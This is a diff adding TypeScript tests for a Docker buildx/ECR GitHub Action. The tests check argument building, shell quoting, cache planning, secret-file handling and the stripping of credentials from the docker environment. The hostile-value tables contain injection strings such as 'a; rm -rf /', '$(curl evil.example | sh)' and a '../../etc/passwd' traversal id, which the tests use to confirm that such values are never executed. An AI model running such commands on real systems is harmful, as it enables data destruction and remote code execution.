@@ -1,0 +1,614 @@
+import { execFileSync } from 'node:child_process';
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  statSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { cleanup } from '../../src/cleanup.js';
+import { buildxArgs, renderCommand, type BuildSpec } from '../../src/docker/buildx-args.js';
+import { planCache, type CacheRequest } from '../../src/docker/cache.js';
+import { createJobDir, dockerEnv, writeSecretFile } from '../../src/docker/job-dir.js';
+import { ActionError } from '../../src/errors.js';
+import type { CacheMode } from '../../src/inputs/types.js';
+
+describe('docker/buildx-args', () => {
+  const URI = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/my-app';
+
+  function spec(overrides: Partial<BuildSpec> = {}): BuildSpec {
+    return {
+      context: '.',
+      buildArgs: [],
+      labels: {},
+      annotations: [],
+      platforms: [],
+      tags: [],
+      secrets: [],
+      cacheFrom: [],
+      cacheTo: [],
+      provenance: false,
+      sbom: false,
+      noCache: false,
+      pull: false,
+      push: false,
+      load: false,
+      metadataFile: '/tmp/job/metadata.json',
+      iidFile: '/tmp/job/iid',
+      ...overrides,
+    };
+  }
+
+  describe('buildxArgs', () => {
+    it('full spec → exact argv, in order', () => {
+      const args = buildxArgs(
+        spec({
+          builder: 'ecr-build-push-1',
+          file: 'docker/prod.Dockerfile',
+          target: 'runtime',
+          buildArgs: [
+            { key: 'NODE_VERSION', value: '20' },
+            { key: 'EMPTY', value: '' },
+          ],
+          labels: { 'org.opencontainers.image.revision': 'abc', 'dev.ecr-build-push.fingerprint': 'f00' },
+          annotations: [{ key: 'index:org.opencontainers.image.title', value: 'app' }],
+          platforms: ['linux/amd64', 'linux/arm64'],
+          tags: [`${URI}:v1.2.3`, `${URI}:latest`],
+          secrets: [
+            { id: 'npm', path: '/tmp/job/secrets/npm' },
+            { id: 'gh', path: 'secrets/gh.txt' },
+          ],
+          cacheFrom: [`type=registry,ref=${URI}:buildcache`],
+          cacheTo: [`type=registry,ref=${URI}:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`],
+          provenance: 'mode=max',
+          sbom: true,
+          noCache: true,
+          pull: true,
+          push: true,
+          load: true,
+          context: 'app',
+        }),
+      );
+      expect(args).toEqual([
+        'buildx',
+        'build',
+        '--builder',
+        'ecr-build-push-1',
+        '--file',
+        'docker/prod.Dockerfile',
+        '--target',
+        'runtime',
+        '--build-arg',
+        'NODE_VERSION=20',
+        '--build-arg',
+        'EMPTY=',
+        '--label',
+        'org.opencontainers.image.revision=abc',
+        '--label',
+        'dev.ecr-build-push.fingerprint=f00',
+        '--annotation',
+        'index:org.opencontainers.image.title=app',
+        '--platform',
+        'linux/amd64,linux/arm64',
+        '--tag',
+        `${URI}:v1.2.3`,
+        '--tag',
+        `${URI}:latest`,
+        '--secret',
+        'id=npm,src=/tmp/job/secrets/npm',
+        '--secret',
+        'id=gh,src=secrets/gh.txt',
+        '--cache-from',
+        `type=registry,ref=${URI}:buildcache`,
+        '--cache-to',
+        `type=registry,ref=${URI}:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`,
+        '--provenance=mode=max',
+        '--sbom=true',
+        '--no-cache',
+        '--pull',
+        '--push',
+        '--load',
+        '--metadata-file',
+        '/tmp/job/metadata.json',
+        '--iidfile',
+        '/tmp/job/iid',
+        'app',
+      ]);
+    });
+
+    it('minimal spec: provenance explicitly false, metadata and iid files, context last', () => {
+      expect(buildxArgs(spec())).toEqual([
+        'buildx',
+        'build',
+        '--provenance=false',
+        '--metadata-file',
+        '/tmp/job/metadata.json',
+        '--iidfile',
+        '/tmp/job/iid',
+        '.',
+      ]);
+    });
+
+    // provenance input → flag
+    const provenance: [false | string, string][] = [
+      [false, '--provenance=false'],
+      ['true', '--provenance=true'],
+      ['mode=min', '--provenance=mode=min'],
+      ['mode=max', '--provenance=mode=max'],
+    ];
+    it.each(provenance)('provenance %s → %s', (value, flag) => {
+      const args = buildxArgs(spec({ provenance: value }));
+      expect(args.filter((a) => a.startsWith('--provenance'))).toEqual([flag]);
+    });
+
+    it('secrets appear only as id=X,src=PATH, never as a value', () => {
+      const args = buildxArgs(spec({ secrets: [{ id: 'token', path: '/run/job/secrets/token' }] }));
+      const i = args.indexOf('--secret');
+      expect(args.slice(i, i + 2)).toEqual(['--secret', 'id=token,src=/run/job/secrets/token']);
+      expect(args.filter((a) => a === '--secret')).toHaveLength(1);
+      expect(args.some((a) => /env=|SECRET_VALUE/.test(a))).toBe(false);
+    });
+
+    // hostile values arrive as one argv element each, byte for byte
+    const hostile: [string, string][] = [
+      ['semicolon', 'a; rm -rf /'],
+      ['command substitution', '$(curl evil.example | sh)'],
+      ['backticks', '`id`'],
+      ['single quotes', "it's"],
+      ['double quotes', 'say "hi"'],
+      ['newline', 'line1\nline2'],
+      ['dollar variable', '$HOME ${PATH}'],
+      ['glob', '*.txt ?'],
+      ['pipe and redirect', 'x | tee /etc/passwd > /dev/null'],
+    ];
+    it.each(hostile)('%s in build-arg, label, target and tag stays a single element', (_name, value) => {
+      const args = buildxArgs(
+        spec({
+          buildArgs: [{ key: 'VALUE', value }],
+          labels: { note: value },
+          target: value,
+          tags: [`${URI}:${value}`],
+          file: value,
+        }),
+      );
+      expect(args[args.indexOf('--build-arg') + 1]).toBe(`VALUE=${value}`);
+      expect(args[args.indexOf('--label') + 1]).toBe(`note=${value}`);
+      expect(args[args.indexOf('--target') + 1]).toBe(value);
+      expect(args[args.indexOf('--tag') + 1]).toBe(`${URI}:${value}`);
+      expect(args[args.indexOf('--file') + 1]).toBe(value);
+      // Nothing split or added: the count is fixed by the spec.
+      expect(args).toHaveLength(
+        buildxArgs(
+          spec({
+            buildArgs: [{ key: 'V', value: 'x' }],
+            labels: { n: 'x' },
+            target: 'x',
+            tags: ['x'],
+            file: 'x',
+          }),
+        ).length,
+      );
+    });
+  });
+
+  describe('renderCommand', () => {
+    const rows: [string, string[], string][] = [
+      [
+        'plain words unquoted',
+        ['buildx', 'build', '--tag', `${URI}:v1.2.3`, '.'],
+        `docker buildx build --tag ${URI}:v1.2.3 .`,
+      ],
+      [
+        'key=value with commas',
+        ['--cache-to', 'type=registry,ref=x:y,mode=max'],
+        'docker --cache-to type=registry,ref=x:y,mode=max',
+      ],
+      ['space quoted', ['--label', 'a=b c'], "docker --label 'a=b c'"],
+      ['single quote escaped', ['--build-arg', "A=it's"], "docker --build-arg 'A=it'\\''s'"],
+      ['command substitution quoted', ['$(id)'], "docker '$(id)'"],
+      ['backticks quoted', ['`id`'], "docker '`id`'"],
+      ['semicolon quoted', ['a;b'], "docker 'a;b'"],
+      ['empty argument kept', ['--build-arg', ''], "docker --build-arg ''"],
+      ['newline inside quotes', ['a\nb'], "docker 'a\nb'"],
+    ];
+    it.each(rows)('%s', (_name, args, expected) => {
+      expect(renderCommand(args)).toBe(expected);
+    });
+
+    it('round-trips through a POSIX shell: the shell sees exactly the argv', () => {
+      const args = buildxArgs(
+        spec({
+          buildArgs: hostileValues().map((value, i) => ({ key: `A${i}`, value })),
+          tags: [`${URI}:v1`],
+          push: true,
+        }),
+      );
+      const script = `docker() { printf '%s\\0' "$@"; }\n${renderCommand(args)}`;
+      const out = execFileSync('sh', ['-c', script], { encoding: 'utf8' });
+      expect(out.split('\0').slice(0, -1)).toEqual(args);
+    });
+  });
+
+  function hostileValues(): string[] {
+    return [
+      'a; rm -rf /',
+      '$(id)',
+      '`id`',
+      "it's",
+      'say "hi"',
+      'l1\nl2',
+      '$HOME',
+      '*',
+      '',
+      'back\\slash',
+      'tab\there',
+    ];
+  }
+});
+
+describe('docker/cache', () => {
+  const URI = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/my-app';
+  const DIR = '/tmp/job/buildkit-cache';
+  const ECR_OPTS = 'mode=max,image-manifest=true,oci-mediatypes=true';
+
+  function request(overrides: Partial<CacheRequest>): CacheRequest {
+    return {
+      mode: 'none',
+      cacheFrom: [],
+      cacheTo: [],
+      uri: URI,
+      immutable: false,
+      remoteEndpoint: false,
+      localDir: DIR,
+      ...overrides,
+    };
+  }
+
+  type Row = {
+    name: string;
+    mode: CacheMode;
+    immutable?: boolean;
+    builder?: string;
+    remote?: boolean;
+    /** undefined: not checked. */
+    from?: string[];
+    to: string[];
+    needsContainerBuilder: boolean;
+    localDir?: string;
+  };
+
+  const REGISTRY_FROM = [`type=registry,ref=${URI}:buildcache`];
+  const REGISTRY_TO = [`type=registry,ref=${URI}:buildcache,${ECR_OPTS}`];
+  const IMMUTABLE_FROM = [`type=registry,ref=${URI}-cache:buildcache`];
+  const IMMUTABLE_TO = [`type=registry,ref=${URI}-cache:buildcache,${ECR_OPTS}`];
+
+  const rows: Row[] = [
+    { name: 'none', mode: 'none', from: [], to: [], needsContainerBuilder: false },
+    {
+      name: 'none, builder default',
+      mode: 'none',
+      builder: 'default',
+      from: [],
+      to: [],
+      needsContainerBuilder: false,
+    },
+    // inline: the cache travels inside the pushed image; which ref it is read back from is not pinned here.
+    { name: 'inline', mode: 'inline', to: ['type=inline'], needsContainerBuilder: false },
+    {
+      name: 'inline, builder default',
+      mode: 'inline',
+      builder: 'default',
+      to: ['type=inline'],
+      needsContainerBuilder: false,
+    },
+    {
+      name: 'registry, mutable, no builder',
+      mode: 'registry',
+      from: REGISTRY_FROM,
+      to: REGISTRY_TO,
+      needsContainerBuilder: true,
+    },
+    {
+      name: 'registry, immutable, no builder',
+      mode: 'registry',
+      immutable: true,
+      from: IMMUTABLE_FROM,
+      to: IMMUTABLE_TO,
+      needsContainerBuilder: true,
+    },
+    {
+      name: 'registry, named builder',
+      mode: 'registry',
+      builder: 'fleet',
+      from: REGISTRY_FROM,
+      to: REGISTRY_TO,
+      needsContainerBuilder: false,
+    },
+    {
+      name: 'registry, immutable, named builder',
+      mode: 'registry',
+      immutable: true,
+      builder: 'fleet',
+      from: IMMUTABLE_FROM,
+      to: IMMUTABLE_TO,
+      needsContainerBuilder: false,
+    },
+    {
+      name: 'registry, remote endpoint',
+      mode: 'registry',
+      remote: true,
+      from: REGISTRY_FROM,
+      to: REGISTRY_TO,
+      needsContainerBuilder: false,
+    },
+    {
+      name: 'gha, no builder',
+      mode: 'gha',
+      from: ['type=gha'],
+      to: ['type=gha,mode=max'],
+      needsContainerBuilder: true,
+    },
+    {
+      name: 'gha, named builder',
+      mode: 'gha',
+      builder: 'fleet',
+      from: ['type=gha'],
+      to: ['type=gha,mode=max'],
+      needsContainerBuilder: false,
+    },
+    {
+      name: 'gha, immutable changes nothing',
+      mode: 'gha',
+      immutable: true,
+      from: ['type=gha'],
+      to: ['type=gha,mode=max'],
+      needsContainerBuilder: true,
+    },
+    {
+      name: 'local, no builder',
+      mode: 'local',
+      from: [`type=local,src=${DIR}`],
+      to: [`type=local,dest=${DIR}-new,mode=max`],
+      needsContainerBuilder: true,
+      localDir: DIR,
+    },
+    {
+      name: 'local, remote endpoint',
+      mode: 'local',
+      remote: true,
+      from: [`type=local,src=${DIR}`],
+      to: [`type=local,dest=${DIR}-new,mode=max`],
+      needsContainerBuilder: false,
+      localDir: DIR,
+    },
+  ];
+
+  describe('planCache: mode × immutable × builder', () => {
+    it.each(rows)('$name', (row) => {
+      const plan = planCache(
+        request({
+          mode: row.mode,
+          immutable: row.immutable ?? false,
+          builder: row.builder,
+          remoteEndpoint: row.remote ?? false,
+        }),
+      );
+      if (row.from) expect(plan.cacheFrom).toEqual(row.from);
+      else expect(plan.cacheFrom.every((from) => from.startsWith(`type=registry,ref=${URI}:`))).toBe(true);
+      expect(plan.cacheTo).toEqual(row.to);
+      expect(plan.needsContainerBuilder).toBe(row.needsContainerBuilder);
+      expect(plan.localDir).toBe(row.localDir);
+    });
+
+    it('registry on an IMMUTABLE repository says where the cache went', () => {
+      const plan = planCache(request({ mode: 'registry', immutable: true }));
+      expect(plan.notes).toHaveLength(1);
+      expect(plan.notes[0]).toContain(`${URI}-cache:buildcache`);
+      expect(plan.notes[0]).toContain('IMMUTABLE');
+    });
+
+    it('registry on a mutable repository: no note', () => {
+      expect(planCache(request({ mode: 'registry' })).notes).toEqual([]);
+    });
+
+    it("the user's own cache-from/cache-to come first and are kept", () => {
+      const plan = planCache(
+        request({
+          mode: 'registry',
+          cacheFrom: ['type=registry,ref=other:cache'],
+          cacheTo: ['type=local,dest=/x'],
+          builder: 'fleet',
+        }),
+      );
+      expect(plan.cacheFrom).toEqual(['type=registry,ref=other:cache', ...REGISTRY_FROM]);
+      expect(plan.cacheTo).toEqual(['type=local,dest=/x', ...REGISTRY_TO]);
+    });
+
+    it('none plus a user cache-to that exports: a container builder is needed', () => {
+      expect(planCache(request({ cacheTo: ['type=registry,ref=x:c'] })).needsContainerBuilder).toBe(true);
+    });
+
+    it('none plus a user inline cache-to: the docker driver will do', () => {
+      const plan = planCache(request({ cacheTo: ['type=inline'], builder: 'default' }));
+      expect(plan.needsContainerBuilder).toBe(false);
+    });
+  });
+
+  describe("planCache: builder 'default' (docker driver) cannot export", () => {
+    const rows: [string, Partial<CacheRequest>][] = [
+      ['registry', { mode: 'registry' }],
+      ['registry, immutable', { mode: 'registry', immutable: true }],
+      ['gha', { mode: 'gha' }],
+      ['local', { mode: 'local' }],
+      ['user cache-to', { mode: 'none', cacheTo: ['type=registry,ref=x:cache'] }],
+    ];
+    it.each(rows)('%s → CacheUnsupported naming the driver', (_name, overrides) => {
+      let thrown: unknown;
+      try {
+        planCache(request({ ...overrides, builder: 'default' }));
+      } catch (error) {
+        thrown = error;
+      }
+      expect(thrown).toBeInstanceOf(ActionError);
+      const err = thrown as ActionError;
+      expect(err.code).toBe('CacheUnsupported');
+      expect(err.message).toContain("builder 'default'");
+      expect(err.message).toContain('docker driver');
+      expect(err.hint).toContain('cache: inline');
+      expect(err.hint).toContain('buildkit-endpoint');
+    });
+  });
+});
+
+describe('docker/job-dir and cleanup', () => {
+  const temp = mkdtempSync(join(tmpdir(), 'core-jobdir-'));
+  afterAll(() => rmSync(temp, { recursive: true, force: true }));
+
+  /** A RUNNER_TEMP of its own, and a user docker config without plugins (the real ~/.docker is never read). */
+  function runnerEnv(name: string): NodeJS.ProcessEnv {
+    return { RUNNER_TEMP: join(temp, name, 'runner-temp'), DOCKER_CONFIG: join(temp, name, 'user-docker') };
+  }
+  const mode = (path: string) => statSync(path).mode & 0o777;
+
+  describe('createJobDir', () => {
+    it('makes a 0700 directory under RUNNER_TEMP with docker/config.json 0600', () => {
+      const env = runnerEnv('layout');
+      const dir = createJobDir(env);
+      expect(dirname(dir.root)).toBe(env.RUNNER_TEMP);
+      expect(dir.root).toMatch(/ecr-build-push-[^/]+$/);
+      expect(mode(dir.root)).toBe(0o700);
+      expect(dir.dockerConfig).toBe(join(dir.root, 'docker'));
+      expect(mode(dir.dockerConfig)).toBe(0o700);
+      expect(mode(dir.secrets)).toBe(0o700);
+      const config = join(dir.dockerConfig, 'config.json');
+      expect(mode(config)).toBe(0o600);
+      expect(JSON.parse(readFileSync(config, 'utf8'))).toEqual({});
+      expect(dir.metadataFile).toBe(join(dir.root, 'metadata.json'));
+      expect(dir.iidFile).toBe(join(dir.root, 'iid'));
+      expect(existsSync(join(dir.dockerConfig, 'cli-plugins'))).toBe(false);
+    });
+
+    it('two jobs sharing RUNNER_TEMP (act: /tmp) get different directories', () => {
+      const env = runnerEnv('shared');
+      const a = createJobDir(env);
+      const b = createJobDir(env);
+      expect(a.root).not.toBe(b.root);
+      expect(dirname(a.root)).toBe(dirname(b.root));
+    });
+
+    it("links the user's CLI plugins (buildx) into the private config", () => {
+      const env = runnerEnv('plugins');
+      const plugins = join(env.DOCKER_CONFIG!, 'cli-plugins');
+      mkdirSync(plugins, { recursive: true });
+      const dir = createJobDir(env);
+      const link = join(dir.dockerConfig, 'cli-plugins');
+      expect(lstatSync(link).isSymbolicLink()).toBe(true);
+      expect(readlinkSync(link)).toBe(plugins);
+    });
+  });
+
+  describe('writeSecretFile', () => {
+    // secret id → file name inside secrets/
+    const rows: [string, string][] = [
+      ['npm', 'npm'],
+      ['github_token', 'github_token'],
+      ['my.secret-1', 'my.secret-1'],
+      ['../../etc/passwd', '.._.._etc_passwd'],
+      ['a/b c', 'a_b_c'],
+    ];
+    it.each(rows)('%s → secrets/%s, 0600, value intact', (id, file) => {
+      const dir = createJobDir(runnerEnv(`secret-${file}`));
+      const value = 'line1\nline2 $(not-run) `x` ;';
+      const path = writeSecretFile(dir, id, value);
+      expect(path).toBe(join(dir.secrets, file));
+      expect(dirname(path)).toBe(dir.secrets);
+      expect(mode(path)).toBe(0o600);
+      expect(readFileSync(path, 'utf8')).toBe(value);
+    });
+  });
+
+  describe('dockerEnv', () => {
+    const base: NodeJS.ProcessEnv = {
+      PATH: '/usr/bin:/bin',
+      HOME: '/home/runner',
+      RUNNER_TEMP: '/home/runner/work/_temp',
+      ACTIONS_RUNTIME_TOKEN: 'runtime',
+      ACTIONS_CACHE_URL: 'https://cache.example/',
+      DOCKER_CONFIG: '/home/runner/.docker',
+      UNSET: undefined,
+    };
+    const dir = { dockerConfig: '/home/runner/work/_temp/ecr-build-push-x/docker' };
+
+    // credential variables that must not reach docker children
+    const stripped: [string, string][] = [
+      ['AWS_ACCESS_KEY_ID', 'ASIAEXAMPLE'],
+      ['AWS_SECRET_ACCESS_KEY', 'secret'],
+      ['AWS_SESSION_TOKEN', 'session'],
+      ['ACTIONS_ID_TOKEN_REQUEST_URL', 'https://token.actions.example/'],
+      ['ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'request-token'],
+      ['AWS_CONTAINER_AUTHORIZATION_TOKEN', 'container-auth'],
+    ];
+    it.each(stripped)('%s is stripped', (key, value) => {
+      const out = dockerEnv({ ...base, [key]: value }, dir);
+      expect(out).not.toHaveProperty(key);
+      expect(Object.values(out)).not.toContain(value);
+    });
+
+    it('no AWS_* or ACTIONS_ID_TOKEN_* variable is left at all', () => {
+      const env = {
+        ...Object.fromEntries(stripped),
+        AWS_CONTAINER_CREDENTIALS_FULL_URI: 'http://169.254.170.23/v1/credentials',
+        AWS_WEB_IDENTITY_TOKEN_FILE: '/var/run/secrets/token',
+        AWS_ROLE_ARN: 'arn:aws:iam::123456789012:role/x',
+        AWS_PROFILE: 'prod',
+      };
+      const out = dockerEnv({ ...base, ...env }, dir);
+      expect(Object.keys(out).filter((k) => /^(AWS_|ACTIONS_ID_TOKEN_)/.test(k))).toEqual([]);
+    });
+
+    it('sets DOCKER_CONFIG to the private dir, keeps the rest, drops undefined', () => {
+      const out = dockerEnv(base, dir);
+      expect(out.DOCKER_CONFIG).toBe(dir.dockerConfig);
+      expect(out.PATH).toBe('/usr/bin:/bin');
+      expect(out.ACTIONS_RUNTIME_TOKEN).toBe('runtime');
+      expect(out.ACTIONS_CACHE_URL).toBe('https://cache.example/');
+      expect(out).not.toHaveProperty('UNSET');
+    });
+
+    // BUILDX_CONFIG keeps the user's builders where they live
+    const buildx: [NodeJS.ProcessEnv, string][] = [
+      [{ DOCKER_CONFIG: '/home/runner/.docker' }, '/home/runner/.docker/buildx'],
+      [{ DOCKER_CONFIG: '/cfg', BUILDX_CONFIG: '/custom/buildx' }, '/custom/buildx'],
+    ];
+    it.each(buildx)('%j → BUILDX_CONFIG %s', (env, expected) => {
+      expect(dockerEnv(env, dir).BUILDX_CONFIG).toBe(expected);
+    });
+  });
+
+  describe('cleanup', () => {
+    it('removes the private directory with its credentials and secrets; no docker needed', async () => {
+      const env = runnerEnv('cleanup');
+      const dir = createJobDir(env);
+      writeSecretFile(dir, 'npm', 'secret');
+      const problems = await cleanup({ jobDir: dir.root, hosts: '', builder: '', env });
+      expect(problems).toEqual([]);
+      expect(existsSync(dir.root)).toBe(false);
+      expect(existsSync(env.RUNNER_TEMP!)).toBe(true);
+    });
+
+    it('no job dir saved (main failed early): nothing to do', async () => {
+      expect(await cleanup({ jobDir: '', hosts: '', builder: '', env: {} })).toEqual([]);
+    });
+
+    it('an already removed directory is not a problem', async () => {
+      const gone = join(temp, 'never-created');
+      expect(await cleanup({ jobDir: gone, hosts: ',', builder: '', env: {} })).toEqual([]);
+    });
+  });
+});
